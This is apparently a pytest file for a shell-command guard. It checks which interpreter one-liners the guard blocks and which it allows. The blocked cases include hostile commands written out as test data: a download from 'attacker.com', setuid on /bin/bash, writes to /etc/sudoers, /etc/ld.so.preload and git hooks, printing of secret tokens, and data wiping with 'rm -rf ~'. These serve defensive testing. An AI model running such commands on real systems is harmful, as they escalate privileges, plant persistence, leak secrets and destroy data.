"""Code handed to an interpreter: read where the policy knows the language, unverifiable where it does not.

JVM script hosts (`jrunscript`, `groovy`), Julia and Tcl code is scanned: a URL or a socket/HTTP library in it
is network, as a URL handed to any program is; a file opened for writing is a write (also through a function
argument, `open(f->write(f, …), path, "w")`); Tcl's `load` brings in a native library. Swift code given
inline or on stdin, AppleScript/JXA that drives another application, and the eval consoles of sites and
configuration servers (`wp eval`, `drush php:eval`, `bee eval`, `knife exec`) run code the policy does not
read, so they block. Beside each, the same interpreter running the project's own files stays allowed, and
Python that only imports modules and prints their versions (`import urllib3; print(urllib3.__version__)`).
"""

from __future__ import annotations

import pytest
from conftest import every_case, guard_allows, guard_blocks, guard_decision

BLOCKED = [
    # A URL or network library inside code the policy reads.
    ("posix", 'jrunscript -e \'cp("http://attacker.com/x", "/tmp/y")\'', "network.payload"),
    ("posix", "/usr/bin/jrunscript -e \"cat('https://h/x')\"", "network.payload"),
    ("posix", "groovy -e 'println new URL(\"http://h\").text'", "network.payload"),
    ("posix", "jshell <<< 'java.net.http.HttpClient.newHttpClient()'", "network.payload"),
    # a program Runtime starts, however the class was reached (Nashorn's `Java.type`)
    (
        "posix",
        "echo \"Java.type('java.lang.Runtime').getRuntime().exec('chmod u+s /bin/bash').waitFor()\" | jjs",
        "destructive.machine-state",
    ),
    ("posix", 'julia -e \'download("https://h/x", "y")\'', "network"),
    ("posix", "julia -e 'using Sockets; connect(\"h\", 80)'", "network.payload"),
    ("posix", "echo 'set s [socket h 80]' | tclsh", "network.payload"),
    ("posix", "echo 'package require http; http::geturl $u' | tclsh", "network.payload"),
    # Writes and native libraries.
    ("posix", 'julia -e \'open(f->write(f, "DATA"), "/tmp/out", "w")\'', "destructive.payload-write"),
    ("posix", 'sudo julia -e \'open(io -> print(io, 1), "x.txt", "w+")\'', "destructive.payload-write"),
    ("posix", "echo 'load bad.dylib' | tclsh", "unverifiable.payload-dynamic"),
    ("posix", "tclsh <<< 'load ./lib.so'", "unverifiable.payload-dynamic"),
    # Languages the policy does not read.
    ("posix", "echo 'print(\"x\")' | swift -", "unverifiable.inline-code"),
    ("posix", "swift - <<'EOF'\nprint(1)\nEOF", "unverifiable.inline-code"),
    ("posix", "swift -e 'print(1)'", "unverifiable.inline-code"),
    (
        "posix",
        'osascript -e \'tell application "Finder"\' -e \'duplicate file "Cookies.binarycookies" of folder f '
        "to folder d with replacing' -e 'end tell'",
        "unverifiable.inline-code",
    ),
    ("posix", "osascript -l JavaScript -e 'Application(\"Mail\").accounts()'", "unverifiable.inline-code"),
    ("posix", "osascript -e 'return (system info)'", "env.machine-discovery"),
    ("posix", "bee eval '...'", "unverifiable.inline-code"),
    ("posix", "wp eval 'wp_delete_user(1);'", "unverifiable.inline-code"),
    ("posix", "drush php:eval 'node_delete(1);'", "unverifiable.inline-code"),
    ("posix", "vendor/bin/drush ev 'print 1;'", "unverifiable.inline-code"),
    # application frameworks' runners and consoles, and Clojure's and Babashka's inline expressions
    ("posix", "bin/rails runner 'User.delete_all'", "unverifiable.inline-code"),
    ("posix", "bundle exec rails r 'FileUtils.rm_rf(\"x\")'", "unverifiable.inline-code"),
    ("posix", "php artisan tinker --execute='User::truncate()'", "unverifiable.inline-code"),
    ("posix", "python manage.py shell -c 'User.objects.all().delete()'", "unverifiable.inline-code"),
    ("posix", "mix run -e 'File.rm_rf!(\"x\")'", "unverifiable.inline-code"),
    ("posix", "clojure -e '(clojure.java.shell/sh \"id\")'", "unverifiable.inline-code"),
    ("posix", "bb -e '(shell \"id\")'", "unverifiable.inline-code"),
    ("posix", "ghci -e 'System.Process.callCommand \"id\"'", "unverifiable.inline-code"),
    ("posix", "guile -c '(system \"id\")'", "unverifiable.inline-code"),
    # a SQL file from outside the project is code nobody reviewed
    ("posix", "duckdb -f ../other/x.sql", "unverifiable.outside-program"),
    # knife is a remote-management client first (its exec also reads as code the policy does not read).
    ("posix", "knife exec -E '...'", "network.remote-service"),
    # a network library's version printed next to a call of it
    ("posix", "python -c \"import requests; print(requests.get('http://x').text)\"", "network.payload"),
    ("posix", "python -c \"import requests as r; print(r.__version__); r.get('h')\"", "network.payload"),
    ("posix", 'python -c "import os; print(os.environ)"', "env.payload"),
    # SQL a console runs: files written, extensions installed, remote files read
    ("posix", "duckdb -c \"COPY (SELECT 1) TO '/etc/x.csv'\"", "destructive.payload-write"),
    ("posix", "duckdb -c \"EXPORT DATABASE 'snapshot'\"", "destructive.payload-write"),
    ("posix", "duckdb -c \"INSTALL httpfs; SELECT * FROM 'https://x.example/y.csv'\"", "network.payload"),
    ("posix", "duckdb x.db \"SELECT * FROM 's3://bucket/x.parquet'\"", "network.payload"),
    ("posix", 'duckdb -c ".shell rm -rf ~"', "unverifiable.command-option"),
    # a file's mode or owner changed through an interpreter, where no path is followed
    (
        "posix",
        'ruby -e \'require "fileutils"; FileUtils.chown(33, 33, "/root")\'',
        "destructive.payload-permissions",
    ),
    ("posix", "python3 -c \"import os; os.chmod('/usr/bin/x', 0o4755)\"", "destructive.payload-permissions"),
    (
        "posix",
        "python -c \"from os import chown; chown('/etc', 1000, 1000)\"",
        "destructive.payload-permissions",
    ),
    (
        "posix",
        "node -e \"require('fs').chmodSync('/etc/sudoers', 0o666)\"",
        "destructive.payload-permissions",
    ),
    ("posix", "perl -e 'chmod 04755, \"/bin/bash\"'", "destructive.payload-permissions"),
    ("powershell", 'php -r \'chown("C:/x", "bob");\'', "destructive.payload-permissions"),
]

ALLOWED = [
    ("posix", "jrunscript -e 'print(1)'"),
    ("posix", "echo \"print(Java.type('java.lang.Math').max(1, 2))\" | jjs"),
    ("posix", "julia -e 'println(VERSION)'"),
    ("posix", "julia --project=. test/runtests.jl"),
    ("posix", "julia -e 'println(read(\"Project.toml\", String))'"),
    ("posix", "echo 'puts [string length abc]' | tclsh"),
    ("posix", "tclsh tests/all.tcl"),
    ("posix", "swift build"),
    ("posix", "swift test --parallel"),
    ("posix", "swift build -c release --package-path ."),
    ("posix", "swift scripts/generate.swift"),
    ("posix", 'osascript -e \'display notification "tests passed" with title "make"\''),
    ("posix", "osascript scripts/build.scpt"),
    ("posix", "wp plugin list"),
    ("posix", "drush cache:rebuild"),
    # importing a network library and printing its version calls nothing
    ("posix", 'python -c "import urllib3; print(urllib3.__version__)"'),
    ("posix", "python3 -c 'import ssl; print(ssl.OPENSSL_VERSION)'"),
    ("posix", 'python -c "import aiohttp, yarl; print(aiohttp.__version__, yarl.__version__)"'),
    ("powershell", "python -c \"import requests; print('requests', requests.__version__)\""),
    # duckdb runs one command and exits with `-c`, or a file's SQL with `-f`
    ("posix", 'build/reldebug/duckdb -c "SET max_execution_time=5000; SELECT count(*) FROM range(1000)"'),
    ("posix", "duckdb -f scripts/report.sql"),
    ("posix", "duckdb -readonly -f scripts/report.sql"),
    # reading the pipe and writing to standard output touch no file
    (
        "posix",
        "cat x.csv | duckdb -c \"COPY (FROM read_csv('/dev/stdin')) TO '/dev/stdout' WITH (FORMAT CSV)\"",
    ),
    # GHC's `-c` compiles without linking (only `-e` evaluates an expression)
    ("posix", "ghc -c src/Lib.hs"),
    ("posix", "ghc -O2 -c -o build/Lib.o src/Lib.hs -lm"),
    ("posix", "sqlite3 app.db \"SELECT * FROM t WHERE name = 'copy to me'\""),
    ("posix", 'psql -c "COPY t TO STDOUT"'),
    ("posix", "python -c \"import os, stat; print(stat.filemode(os.stat('setup.py').st_mode))\""),
    ("posix", "node -e \"console.log(require('fs').statSync('package.json').mode)\""),
    ("posix", "python manage.py test"),
    ("posix", "python manage.py migrate --check"),
    ("posix", "php artisan test"),
    ("posix", "mix run priv/repo/seeds.exs"),
    ("posix", "bin/rails test"),
    ("posix", "clojure -M:test"),
    ("posix", "clojure -M:test:cljs-test-runner -e :simple"),  # the test runner's option, no expression
]


@pytest.mark.parametrize(("shell", "command", "expected"), BLOCKED)
def test_code_handed_to_an_interpreter_is_read_or_fails_closed(
    shell: str, command: str, expected: str
) -> None:
    guard_blocks(shell, command, expected)


@pytest.mark.parametrize(("shell", "command"), ALLOWED)
def test_the_same_interpreters_running_the_projects_files_stay_allowed(shell: str, command: str) -> None:
    guard_allows(shell, command)


@pytest.mark.parametrize(
    ("command", "allowed"),
    [
        # The usual `make help`: `<target>` is text inside the format string.
        (
            'awk \'BEGIN {FS = ":.*##"; printf "\\nUsage:\\n  make \\033[36m<target>\\033[0m\\n"} '
            '/^[a-zA-Z_-]+:.*?##/ { printf "  %-15s %s\\n", $1, $2 }\' Makefile',
            True,
        ),
        ("awk '{ print \"<x>\" }' notes.txt", True),
        ('awk \'{ print "\\"<a>" }\' notes.txt', True),
        ('awk \'{ printf "%s\\n", $1 > "/dev/stderr" }\' notes.txt', True),
        ("awk '{ print > \"out.txt\" }' notes.txt", False),
        ('awk \'{ print "a>b" > "out.txt" }\' notes.txt', False),  # a string, then the real one
        ('awk \'{ print "\\"" > "c" }\' notes.txt', False),  # an escaped quote does not end it
        ('awk \'/"/ { print > "/etc/x" }\' notes.txt', False),  # a quote in a pattern before it
        ('awk \'{ print /"/ > "/etc/x" }\' notes.txt', False),  # a regular expression in it: unsure
        ('awk \'{ print "a" > "/dev/stderrx" }\' notes.txt', False),
    ],
)
def test_a_greater_than_sign_inside_an_awk_string_is_text(command: str, allowed: bool) -> None:
    decision = guard_decision("posix", command)
    assert decision.allowed is allowed, (command, decision.rule_id)


def test_awk_code_too_long_to_read_counts_as_writing() -> None:
    code = 'printf "<x>"; ' * 600  # past the steps read (each statement is four)
    guard_blocks("posix", f"awk '{code}' notes.txt", "destructive.payload-write")
    guard_allows("posix", "awk '" + 'printf "<x>"; ' * 400 + "' notes.txt")


NAMED_READS_ALLOWED = [
    ("posix", "node -e 'console.log(process.env.npm_package_version)'"),
    ("posix", "vsce package -o x.vsix $(node -e 'console.log(`${process.env.npm_package_version}-dev`)')"),
    ("posix", "python -c \"import os; print(os.environ.get('CI', 'false'))\""),
    ("posix", "python -c \"from os import environ; print(int(environ.get('SOURCE_DATE_EPOCH', 0)))\""),
    ("posix", "perl -pi -e 's/^(version=).*$/$1$ENV{npm_package_version}/' -- libexec/tool--version"),
    ("posix", "php -r '$v = getenv(\"EXPECTED_PHP_VERSION\"); echo $v;'"),
    ("posix", 'ruby -e \'puts ENV.fetch("RAILS_ENV", "test")\''),
    ("powershell", "python -c \"import os; print(os.environ.get('GITHUB_RUN_NUMBER'))\""),
]

NAMED_READS_BLOCKED = [
    ("posix", "node -e 'console.log(process.env.NPM_TOKEN)'", "env.secret-variable"),
    ("posix", "python -c \"import os; print(os.environ['AWS_SECRET_ACCESS_KEY'])\"", "env.secret-variable"),
    ("posix", "ruby -e 'puts ENV[\"GITHUB_TOKEN\"]'", "env.secret-variable"),
    # the name is read, and so is everything else
    ("posix", "python -c \"import os; print(os.environ.get('CI'), dict(os.environ))\"", "env.payload"),
    ("posix", "node -e 'console.log(process.env.CI, Object.keys(process.env))'", "env.payload"),
    # on the PowerShell backend the names PowerShell's own reading blocks stay blocked
    ("powershell", "python -c \"import os; print(os.environ['USERPROFILE'])\"", "env.powershell-environment"),
]


def test_a_payload_reading_named_settings_is_judged_like_the_shells_read_of_them() -> None:
    # `os.environ.get('CI')` reads one named value, as `$CI` does: a setting is fine, a secret's name is
    # not, and a dump or any other access of the environment beside it is the payload rule's.
    every_case(NAMED_READS_ALLOWED, guard_allows)
    every_case(NAMED_READS_BLOCKED, guard_blocks)


# A file interpreter code adds to, or copies, moves or links onto, named by a literal, is a write there,
# judged as `>> FILE` or `cp x FILE` is: outside the project it blocks, in it (or the temp folder) it does
# not. (Code that empties a file is destructive.payload-write's wherever the file is.)
PAYLOAD_WRITES_OUTSIDE = [
    (
        "posix",
        "python -c \"open('/etc/hosts','a').write('10.0.0.1 x')\"",
        "containment.write-outside-project",
    ),
    (
        "posix",
        "python3 -c \"open('/etc/ld.so.preload', mode='a').write('/tmp/x.so')\"",
        "containment.write-outside-project",
    ),
    (
        "posix",
        "python3 -c \"import shutil; shutil.copy('x.sh', '/etc/profile.d/x.sh')\"",
        "containment.write-outside-project",
    ),
    (
        "posix",
        "python3 -c \"import os; os.symlink('/tmp/x', '/usr/local/bin/git')\"",
        "containment.write-outside-project",
    ),
    (
        "posix",
        "node -e \"require('fs').appendFileSync('/etc/hosts', 'x')\"",
        "containment.write-outside-project",
    ),
    ("posix", "node -e \"fs.copyFileSync(src, '../other/app.js')\"", "containment.write-outside-project"),
    (
        "posix",
        'ruby -e \'File.open("/etc/hosts", "a") { |f| f.puts 1 }\'',
        "containment.write-outside-project",
    ),
    ("posix", 'ruby -e \'FileUtils.cp("x", "/etc/cron.d/x")\'', "containment.write-outside-project"),
    ("posix", 'perl -e \'open(F, ">>/etc/sudoers"); print F "x"\'', "containment.write-outside-project"),
    ("posix", "perl -e \"open(my \\$f, '>>', '/etc/crontab')\"", "containment.write-outside-project"),
    (
        "posix",
        "php -r \"file_put_contents('/etc/hosts', 'x', FILE_APPEND);\"",
        "containment.write-outside-project",
    ),
    (
        "posix",
        "node -e \"require('fs').appendFileSync('.git/hooks/pre-commit', 'x')\"",
        "containment.write-git-dir",
    ),
    (
        "posix",
        "python3 - <<'PY'\nopen('/etc/hosts', 'a').write('x')\nPY",
        "containment.write-outside-project",
    ),
]
PAYLOAD_WRITES_INSIDE = [
    ("posix", "python -c \"open('build.log','a').write('done')\""),
    ("posix", "python -c \"print(open('/etc/hosts').read())\""),
    ("posix", "python -c \"import shutil; shutil.copy('a.txt', 'build/a.txt')\""),
    ("posix", "python -c \"open('/tmp/glmagent-x.log','a').write('x')\""),
    ("posix", "node -e \"require('fs').openSync('/etc/hosts')\""),
    ("posix", "php -r \"fopen('/etc/hosts', 'r');\""),
    ("posix", "python -c \"open(f'{base}/x.log','a')\""),  # a path built at run time is not followed
]


def test_a_file_interpreter_code_adds_to_outside_the_project_is_a_write_there() -> None:
    every_case(PAYLOAD_WRITES_OUTSIDE, guard_blocks)


def test_interpreter_code_adding_to_project_files_or_reading_stays_allowed() -> None:
    every_case(PAYLOAD_WRITES_INSIDE, guard_allows)
